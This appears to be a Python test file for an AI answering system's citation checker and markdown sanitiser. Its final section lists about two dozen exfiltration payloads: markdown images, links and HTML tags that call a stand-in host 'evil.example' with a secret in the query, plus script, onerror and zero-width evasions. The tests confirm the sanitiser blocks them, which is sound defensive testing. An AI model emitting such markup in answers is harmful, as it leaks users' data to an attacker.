"""Citations that hold, and text that leads nowhere it should not."""

import re

import pytest

from core.answer.cite import check_citations, in_order, tidy_markers
from core.answer.prompt_passages import PromptPassage
from core.answer.safe_markdown import safe_markdown
from core.schema import Hit, StoredPassage

RATES = (
    "Gifts under 45 EUR are free of duty. All other parcels above 150 EUR are taxed at 19 percent. "
    "Storage costs 4 EUR a day."
)
RETURNS = (
    "Returns are free within 30 days of delivery.\n\nKeep the receipt and use the label that came with the parcel."
)


def given(text: str, source: str = "a", start: int = 100) -> PromptPassage:
    passage = StoredPassage(source, source, f"{source}1", 0, start, start + len(text), 2, text, "", "")
    return PromptPassage(Hit(passage, f"{source}.pdf", 1.0), (passage,))


BOTH = [given(RATES, "rates"), given(RETURNS, "returns", 0)]


@pytest.mark.parametrize(
    ("written", "tidy"),
    [
        ("Free [1].", "Free [1]."),
        ("Free [1, 2].", "Free [1][2]."),
        ("Free [1；2].", "Free [1][2]."),
        ("Free [1] [2].", "Free [1] [2]."),
        ("Free 【1】.", "Free [1]."),
        ("Free【2†rates.pdf】.", "Free[2]."),
        ("Free [^2].", "Free [2]."),
        ("Free [7].", "Free."),
        ("Free [0] [1, 9].", "Free [1]."),
        ("In [2024] it was free.", "In [2024] it was free."),
        ("Free [a].", "Free [a]."),
    ],
)
def test_markers_of_every_kind_become_one_kind(written: str, tidy: str) -> None:
    assert tidy_markers(written, 2) == tidy


def test_a_citation_is_the_sentence_that_says_it() -> None:
    text, (first, second) = check_citations(
        "You can return it free for 30 days [2]. Storage costs 4 EUR a day [1].", BOTH
    )
    assert text == "You can return it free for 30 days [1]. Storage costs 4 EUR a day [2]."
    assert first.quote == "Returns are free within 30 days of delivery."
    assert (first.source_name, first.number, first.start, first.end) == ("returns.pdf", 1, 0, 44)
    assert second.quote == "Storage costs 4 EUR a day."
    assert RATES[second.start - 100 : second.end - 100] == second.quote
    assert first.supported
    assert second.supported


def test_a_marker_behind_the_full_stop_belongs_to_the_sentence_before_it() -> None:
    _, citations = check_citations("Storage costs 4 EUR a day. [1] Returns are free for 30 days. [2]", BOTH)
    assert [citation.quote[:7] for citation in citations] == ["Storage", "Returns"]


def test_two_places_of_one_passage_are_two_citations_and_one_place_is_one() -> None:
    text, citations = check_citations(
        "Storage costs 4 EUR a day [1]. Gifts under 45 EUR are free [1]. A day of storage: 4 EUR [1].", BOTH
    )
    assert re.findall(r"\[\d\]", text) == ["[1]", "[2]", "[1]"]
    assert [citation.quote for citation in citations] == [
        "Storage costs 4 EUR a day.",
        "Gifts under 45 EUR are free of duty.",
    ]


@pytest.mark.parametrize(
    "sentence",
    [
        "Storage costs 5 EUR a day [1].",
        "Gifts under 54 EUR are free of duty [1].",
        "Our office is closed on Sundays and in August [1].",
        "Parcels are taxed at 1.9 percent [1].",
    ],
)
def test_what_the_passage_does_not_say_is_not_supported(sentence: str) -> None:
    _, (citation,) = check_citations(sentence, BOTH)
    assert not citation.supported


@pytest.mark.parametrize(
    ("sentence", "source"),
    [
        ("It costs 1,500.00 EUR a year [1].", "The price is 1500 EUR for every year."),
        ("Der Preis beträgt 1.500 EUR [1].", "Preis: 1,500 EUR im Jahr."),
        ("It costs 2.50 EUR [1].", "It costs 2.5 EUR."),
    ],
)
def test_numbers_agree_however_they_are_written(sentence: str, source: str) -> None:
    _, (citation,) = check_citations(sentence, [given(source)])
    assert citation.supported


def test_a_number_of_the_question_may_be_repeated() -> None:
    sentence = "A parcel worth 200 EUR is above 150 EUR, so it is taxed at 19 percent [1]."
    assert not check_citations(sentence, BOTH)[1][0].supported
    assert check_citations(sentence, BOTH, "Is a parcel worth 200 EUR taxed?")[1][0].supported


def test_an_answer_without_markers_gets_them_where_it_is_plainly_borne_out() -> None:
    text, citations = check_citations("Gifts under 45 EUR are free of duty. I wish you a lovely spring holiday.", BOTH)
    assert text == "Gifts under 45 EUR are free of duty. [1] I wish you a lovely spring holiday."
    assert [citation.quote for citation in citations] == ["Gifts under 45 EUR are free of duty."]
    assert check_citations("Bananas are yellow and grow on trees.", BOTH) == (
        "Bananas are yellow and grow on trees.",
        (),
    )


def test_the_page_is_that_of_the_part_the_quote_stands_in() -> None:
    first, second = "Gifts are free of duty.", "Storage costs 4 EUR a day."
    parts = (
        StoredPassage("1", "a", "a1", 0, 0, 23, 7, first, "", ""),
        StoredPassage("2", "a", "a1", 1, 24, 50, 8, second, "", ""),
    )
    joined = StoredPassage("1", "a", "a1", 0, 0, 50, 7, f"{first}\n{second}", "", "")
    _, (citation,) = check_citations("Storage: 4 EUR a day [1].", [PromptPassage(Hit(joined, "a", 1.0), parts)])
    assert (citation.page, citation.passage_start, citation.quote) == (8, 24, second)


def test_the_page_is_that_of_the_sentence_where_a_part_goes_over_two() -> None:
    text = "Gifts are free of duty. Storage costs 4 EUR a day."
    part = StoredPassage("1", "a", "a1", 0, 100, 150, 7, text, "", "", page_breaks=(124,))
    _, (first,) = check_citations("Gifts are free of duty [1].", [PromptPassage(Hit(part, "a", 1.0), (part,))])
    _, (second,) = check_citations("Storage: 4 EUR a day [1].", [PromptPassage(Hit(part, "a", 1.0), (part,))])
    assert (first.page, second.page) == (7, 8)


def test_a_written_sentence_cites_the_one_row_that_bears_it_out() -> None:
    text = "Country,Threshold\nNorway,NOK 350\nBrazil,USD 50\n"
    rows = ((0, 17), (18, 32), (33, 46))
    part = StoredPassage("1", "a", "a1", 0, 0, len(text), None, text, "", "", rows=rows)
    _, (citation,) = check_citations("In Brazil it is USD 50 [1].", [PromptPassage(Hit(part, "a", 1.0), (part,))])
    assert citation.quote == "Brazil,USD 50"


def test_numbers_while_writing_follow_the_order_of_appearance() -> None:
    assert in_order("A [3]. B [1]. C [3].") == "A [1]. B [2]. C [1]."


EVIL = "https://evil.example/x?d=secret"
LEAKS = [
    f"![a]({EVIL})",
    f"![a]( <{EVIL}> 'title')",
    f"![a\n]({EVIL})",
    f"[click here]({EVIL})",
    f"[![a]({EVIL})]({EVIL})",
    f"[[![a]({EVIL})]({EVIL})]({EVIL})",
    f"![a][ref]\n\n[ref]: {EVIL}",
    f"[ref]\n\n[ref]:\n  <{EVIL}>",
    f"[1]\n\n[1]: {EVIL} 'title'",
    f"> [1]: {EVIL}",
    f'<img src="{EVIL}">',
    f"<img src={EVIL} onerror=alert(1)>",
    f'<a href="{EVIL}">here</a>',
    f"<{EVIL}>",
    f"see {EVIL} now",
    "see www.evil.example/x?d=secret now",
    "![a](//evil.example/x)",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,AAAA)",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<!-- hidden -->",
    f"![a\\]]({EVIL})",
    f"!\u200b[a]\u200b({EVIL})",
    f"![a]\u2060({EVIL})",
    f"[x](https://ok.example/page) ![a]({EVIL})",
]


def loads_or_leads(markdown: str) -> list[str]:
    """Every address that a CommonMark reader (with HTML and bare links switched on) would load or link to."""
    from markdown_it import MarkdownIt

    found: list[str] = []
    for block in MarkdownIt("commonmark", {"html": True}).enable(["table"]).parse(markdown):
        for token in [block, *(block.children or [])]:
            found += [str(token.attrs[name]) for name in ("src", "href") if name in token.attrs]
            found += [token.content] if token.type in ("html_block", "html_inline") else []
            found += re.findall(r"(?:https?://|www\.)\S+", token.content) if token.type == "text" else []
    return found


def test_the_leaks_are_leaks() -> None:
    assert sum(bool(loads_or_leads(leak)) for leak in LEAKS) > len(LEAKS) * 0.8


@pytest.mark.parametrize("leak", LEAKS)
def test_nothing_loads_or_leads_out_in_any_beginning_of_an_answer(leak: str) -> None:
    sources = "See https://ok.example/page for more."
    answer = f"Duty is 19 percent [1].\n\n{leak}\n\nThat is all."
    for end in range(len(answer) + 1):
        for complete in (False, True):
            shown = safe_markdown(answer[:end], sources, complete=complete)
            assert set(loads_or_leads(shown)) <= {"https://ok.example", "https://ok.example/page"}
    final = safe_markdown(answer, sources)
    assert "Duty is 19 percent [1]." in final
    assert final.endswith("That is all.")
    assert "evil.example/x?d" not in final


@pytest.mark.parametrize("leak", [*LEAKS, "A plain answer [1], [2] and 3 < 4 [note]."])
def test_what_was_shown_while_writing_is_never_taken_back(leak: str) -> None:
    answer = f"Duty is 19 percent [1]. And [more text\n\n{leak}\n\nThat is all, 5 [1, 2] [3] end."
    shown = ""
    for end in range(len(answer) + 1):
        longer = tidy_markers(safe_markdown(answer[:end], complete=False), 2)
        assert longer.startswith(shown) or len(longer) <= len(shown)
        shown = longer if longer.startswith(shown) else shown
    assert "Duty is 19 percent [1]." in shown


def test_links_of_the_documents_stay() -> None:
    sources = "Use the form at https://ok.example/form?a=1. Mail us."
    assert safe_markdown("[form](https://ok.example/form?a=1)", sources) == "[form](https://ok.example/form?a=1)"
    assert safe_markdown("See https://ok.example/form?a=1.", sources) == "See https://ok.example/form?a=1."
    assert safe_markdown("See <https://ok.example/form?a=1>.", sources) == "See https://ok.example/form?a=1."
    assert safe_markdown("[form](https://ok.example/form?a=1&d=secret)", sources) == "form"
    assert safe_markdown("[form](https://ok.exam)", sources) == "form"


@pytest.mark.parametrize(
    "plain",
    [
        "Duty is **19 %** for 3 < 4 and 5 > 2.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "1. One [1]\n2. Two [2]",
        "`code` and *words*",
        "می\u200cخواهم",
        "👨\u200d👩\u200d👧 fine ❤\ufe0f",
        "# Heading\n\n- item",
    ],
)
def test_ordinary_markdown_is_left_alone(plain: str) -> None:
    assert safe_markdown(plain) == plain
